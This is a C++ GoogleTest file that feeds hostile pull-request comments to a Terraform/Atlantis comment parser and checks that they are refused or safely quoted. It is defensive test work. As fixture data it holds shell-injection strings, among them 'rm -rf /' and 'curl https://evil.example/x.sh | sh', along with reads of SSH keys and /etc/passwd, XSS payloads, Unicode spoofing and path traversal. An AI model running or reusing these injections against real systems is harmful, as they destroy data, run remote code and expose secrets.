// Hostile PR comments, end to end: the real binary (`infra-flash explain`) on the
// example issue_comment payload whose body is replaced by each text below. Whatever the
// text, explain exits 0 quickly with valid JSON; a command carries only allowlisted
// extra args; a reply keeps user text inside code spans (no @mention, no HTML); and the
// texts that must be refused get a reply or nothing, never a command.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "hostile_support.h"

namespace infra_flash::hostile {
namespace {

enum class Expect {
  kRefused,  // intent is "reply" or "none": nothing runs
  kRuns,     // intent is "command" (a legitimate command in a hostile wrapping)
  kEither,   // only the safety properties are checked
};

struct CommentCase {
  const char* name;
  std::string body;
  Expect expect;
  std::vector<std::string> extra_args = {};  // for kRuns: exactly these
};

std::string Repeat(std::string_view text, std::size_t times) {
  std::string out;
  out.reserve(text.size() * times);
  for (std::size_t i = 0; i < times; ++i) out += text;
  return out;
}

constexpr std::size_t kMiB = 1u << 20;

const std::vector<CommentCase>& Cases() {
  static const std::vector<CommentCase> cases = {
      // Shell metacharacters: nothing is ever run through a shell, and none of them is a
      // layer name or an allowlisted value.
      {"semicolon", "/plan; rm -rf /", Expect::kRefused},
      {"and-and pipe", "/plan platform && curl https://evil.example/x.sh | sh", Expect::kRefused},
      {"dollar paren", "/plan $(rm -rf /)", Expect::kRefused},
      {"dollar paren in a value", "/plan -- -target=$(id)", Expect::kRefused},
      {"backticks", "/plan `id`", Expect::kRefused},
      {"backticks in a value", "/plan -- -target=`id`", Expect::kRefused},
      {"quoted metacharacters", "/plan -- \"-target=module.a;reboot\"", Expect::kRefused},
      {"redirection", "/plan -- -var-file=x>/etc/passwd", Expect::kRefused},
      {"glob", "/plan -- -var-file=*", Expect::kRefused},
      {"env expansion", "/plan -- -var-file=$HOME/.ssh/id_rsa", Expect::kRefused},
      // Line breaks: only a command alone on its line is a command.
      {"newline then shell", "/plan\nrm -rf /", Expect::kRefused},
      {"CRLF then shell", "/plan\r\nrm -rf /", Expect::kRefused},
      {"lone CR then shell", "/plan\rrm -rf /", Expect::kRefused},
      {"CR inside args", "/plan -- -target=module.a\r-chdir=/", Expect::kRefused},
      {"vertical tab", "/plan\v-- -chdir=/", Expect::kRefused},
      {"form feed", "/plan \f platform", Expect::kRefused},
      {"escape sequence", "/plan \x1b[31mplatform", Expect::kRefused},
      {"DEL", "/plan platform\x7f", Expect::kRefused},
      // NUL bytes (JSON-escaped as \u0000 in the payload).
      {"NUL after command", std::string("/plan\0 -- -chdir=/", 18), Expect::kRefused},
      {"NUL inside layer", std::string("/plan plat\0form", 15), Expect::kRefused},
      {"NUL only", std::string("\0", 1), Expect::kRefused},
      // Size: bounded work, and a reply rather than a parse of a megabyte.
      {"1 MiB of layer words", "/plan " + Repeat("platform ", kMiB / 9), Expect::kRefused},
      {"1 MiB of one word", "/plan " + Repeat("a", kMiB), Expect::kRefused},
      {"1 MiB of prose after a command",
       "/apply staging\n" + Repeat("@org/team <b>x</b> ", kMiB / 19), Expect::kRefused},
      {"1 MiB of blank lines then a command", Repeat("\n", kMiB) + "/apply staging", Expect::kRuns},
      {"1 MiB of extra args", "/plan -- " + Repeat("-destroy ", kMiB / 9), Expect::kRefused},
      {"1 MiB of backticks", Repeat("`", kMiB), Expect::kRefused},
      {"1 MiB of quotes", "/plan " + Repeat("'\"", kMiB / 2), Expect::kRefused},
      {"1 MiB of invisible marks", Repeat("\u200b", kMiB / 3) + "/apply staging", Expect::kRefused},
      // Unicode look-alikes of `/apply`.
      {"fullwidth solidus", "\uff0fapply staging", Expect::kRefused},
      {"fullwidth letters", "/\uff41\uff50\uff50\uff4c\uff59 staging", Expect::kRefused},
      {"cyrillic a", "/\u0430pply staging", Expect::kRefused},
      {"cyrillic p", "/a\u0440\u0440ly staging", Expect::kRefused},
      {"greek alpha", "/\u03b1pply staging", Expect::kRefused},
      {"greek omicron in plan", "/pl\u03bfn", Expect::kRefused},
      {"division slash", "\u2215apply staging", Expect::kRefused},
      {"fraction slash", "\u2044apply staging", Expect::kRefused},
      {"cyrillic in layer", "/plan pl\u0430tform", Expect::kRefused},
      {"fullwidth hyphen in extra args", "/plan \uff0d\uff0d -chdir=/", Expect::kRefused},
      // Right-to-left and zero-width marks.
      {"RLO before command", "\u202e/apply staging", Expect::kRefused},
      {"RLO inside command", "/apply\u202e gnigats", Expect::kRefused},
      {"RLI isolate", "/apply \u2067staging\u2069", Expect::kRefused},
      {"zero-width space", "/ap\u200bply staging", Expect::kRefused},
      {"zero-width joiner", "/apply\u200d staging", Expect::kRefused},
      {"BOM first", "\ufeff/apply staging", Expect::kRefused},
      {"word joiner", "/apply\u2060 staging", Expect::kRefused},
      {"arabic letter mark", "/apply \u061cstaging", Expect::kRefused},
      {"line separator", "/plan\u2028-- -chdir=/", Expect::kRefused},
      // Mentions and HTML in arguments: quoted back only inside code spans.
      {"team mention as layer", "/plan @org/team", Expect::kRefused},
      {"everyone mention", "/apply @everyone", Expect::kRefused},
      {"mention in a value", "/plan -- -target=@org/admins", Expect::kRefused},
      {"mention in atlantis dir", "atlantis plan -d @org/team", Expect::kRefused},
      {"mention as bot subcommand", "atlantis @org/team", Expect::kRefused},
      {"html img", "/plan <img src=x onerror=alert(1)>", Expect::kRefused},
      {"html comment", "/plan <!-- infra-flash:dashboard -->", Expect::kRefused},
      {"html details", "/apply <details><summary>x</summary></details>", Expect::kRefused},
      {"html in a value", "/plan -- -var-file=<script>alert(1)</script>", Expect::kRefused},
      {"markdown link", "/plan [click](https://evil.example)", Expect::kRefused},
      {"breaking out of a code span", "/plan `platform` `` @org/team ``", Expect::kRefused},
      {"backticks around a mention", "/plan pla`tform @org/team`", Expect::kRefused},
      {"typo with mention", "/paln @org/team", Expect::kRefused},
      {"misspelled bot with html", "atlantsi plan -d <b>x</b>", Expect::kRefused},
      {"engine command with mention", "terraform plan @org/team", Expect::kRefused},
      {"e2e suite html", "/e2e <script>", Expect::kRefused},
      {"long mention list", "/plan " + Repeat("@a ", 500), Expect::kRefused},
      // Flags that would leave the layer, its state or the repository.
      {"chdir root", "/plan -- -chdir=/", Expect::kRefused},
      {"double-dash chdir", "/plan -- --chdir=/", Expect::kRefused},
      {"var-file passwd", "/plan -- -var-file=/etc/passwd", Expect::kRefused},
      {"var-file passwd as two words", "/plan -- -var-file /etc/passwd", Expect::kRefused},
      {"var-file parent", "/plan -- -var-file=../../etc/passwd", Expect::kRefused},
      {"var-file hidden parent", "/plan -- -var-file=envs/../../x.tfvars", Expect::kRefused},
      {"var", "/plan -- -var=admin=true", Expect::kRefused},
      {"state", "/plan -- -state=/tmp/x", Expect::kRefused},
      {"backend-config", "/plan -- -backend-config=bucket=evil", Expect::kRefused},
      {"plugin-dir", "/plan -- -plugin-dir=/tmp", Expect::kRefused},
      {"lock off", "/apply staging -- -lock=false", Expect::kRefused},
      {"auto-approve", "/apply -- -auto-approve", Expect::kRefused},
      {"target on apply", "/apply staging -- -target=module.a", Expect::kRefused},
      {"second separator", "/plan -- -destroy -- -chdir=/", Expect::kRefused},
      {"atlantis dir parent", "atlantis plan -d ../../etc", Expect::kRefused},
      {"atlantis dir absolute", "atlantis plan -d /etc", Expect::kRefused},
      {"atlantis dir backslash", "atlantis plan -d ..\\..\\etc", Expect::kRefused},
      {"atlantis extra chdir", "atlantis plan -d platform -- -chdir=/", Expect::kRefused},
      {"digger project parent", "digger plan -p ../x", Expect::kRefused},
      {"huge parallelism", "/plan -- -parallelism=99999999999999999999", Expect::kRefused},
      {"negative parallelism", "/plan -- -parallelism=-1", Expect::kRefused},
      {"address with space", "/plan -- \"-target=module.a b\"", Expect::kRefused},
      {"address key with quote", "/plan -- '-target=a.b[\"x\\\"y\"]'", Expect::kRefused},
      // Legitimate commands in unusual wrappings still run, with exactly their args.
      {"allowlisted args",
       "/plan -- -target=module.vpc -destroy",
       Expect::kRuns,
       {"-target=module.vpc", "-destroy"}},
      {"two-word allowlisted arg",
       "/plan -- -var-file envs/staging.tfvars",
       Expect::kRuns,
       {"-var-file=envs/staging.tfvars"}},
      {"quoted address key",
       "/plan -- '-target=aws_instance.web[\"blue\"]'",
       Expect::kRuns,
       {"-target=aws_instance.web[\"blue\"]"}},
      {"code span command", "`/apply staging`", Expect::kRuns},
      {"fenced command", "```\n/apply staging\n```", Expect::kRuns},
      {"trailing CR", "/apply staging\r", Expect::kRuns},
      {"tabs", "\t/apply\tstaging\t", Expect::kRuns},
      {"apply lock timeout",
       "/apply staging -- -lock-timeout=5m",
       Expect::kRuns,
       {"-lock-timeout=5m"}},
      // Whatever these do, they must be safe.
      {"help", "/help", Expect::kEither},
      {"atlantis alone", "atlantis", Expect::kEither},
      {"only whitespace", " \t \n \r\n ", Expect::kRefused},
      {"empty", "", Expect::kRefused},
      {"invalid UTF-8", "/plan \xff\xfe platform", Expect::kRefused},
      {"invalid UTF-8 typo", "/pl\xc3\x28n", Expect::kRefused},
      {"overlong slash", "\xc0\xafplan", Expect::kRefused},
      {"surrogate bytes", "atlantis pl\x9f\xed\xbc\x8f+an", Expect::kRefused},
  };
  return cases;
}

std::vector<std::string> Strings(const rapidjson::Value* array) {
  std::vector<std::string> out;
  if (array == nullptr || !array->IsArray()) return out;
  for (const auto& item : array->GetArray())
    out.push_back(item.IsString() ? item.GetString() : "?");
  return out;
}

void CheckCase(const CommentCase& c, const testing::TempDir& dir) {
  SCOPED_TRACE(c.name);
  const std::string payload = CommentPayload(c.body);
  ASSERT_FALSE(payload.empty()) << "could not build the payload";
  const testing::ProcessResult run = Explain(dir, "issue_comment", payload);
  ASSERT_EQ(run.signal, 0) << run.err;
  ASSERT_EQ(run.exit_code, 0) << run.err;
  EXPECT_TRUE(run.err.empty()) << run.err;
  ASSERT_TRUE(IsValidUtf8(run.out)) << "explain printed broken UTF-8";
  Result<rapidjson::Document> parsed = json::Parse(run.out, "explain output");
  ASSERT_TRUE(parsed.ok()) << parsed.error().message << "\n" << run.out.substr(0, 2000);
  const rapidjson::Document& out = *parsed;

  const std::string intent = json::StringOr(json::Member(out, "intent"));
  const rapidjson::Value* command = json::Member(out, "command");
  switch (c.expect) {
    case Expect::kRefused:
      EXPECT_TRUE(intent == "reply" || intent == "none") << intent << "\n" << run.out;
      // A refused comment runs nothing: no command, or only /help (a reply).
      if (command != nullptr && !command->IsNull()) {
        EXPECT_EQ(json::StringOr(json::Member(*command, "verb")), "help") << run.out;
      }
      EXPECT_TRUE(Strings(json::Member(out, "layers")).empty());
      break;
    case Expect::kRuns:
      EXPECT_EQ(intent, "command") << run.out;
      EXPECT_EQ(Strings(json::Find(out, {"command", "extra_args"})), c.extra_args);
      break;
    case Expect::kEither:
      break;
  }
  if (command != nullptr && command->IsObject()) {
    for (const std::string& arg : Strings(json::Member(*command, "extra_args"))) {
      EXPECT_EQ(ExtraArgProblem(arg), "") << arg;
    }
  }
  const std::string reply = json::StringOr(json::Member(out, "reply"));
  if (!reply.empty()) {
    EXPECT_EQ(fuzzing::ReplyProblem(reply), "") << reply.substr(0, 4000);
  }
  const std::string reason = json::StringOr(json::Member(out, "reason"));
  EXPECT_EQ(reason.find('\n'), std::string::npos) << reason;
}

TEST(HostileComment, EveryCaseIsSafe) {
  testing::TempDir dir;
  for (const CommentCase& c : Cases()) CheckCase(c, dir);
}

}  // namespace
}  // namespace infra_flash::hostile
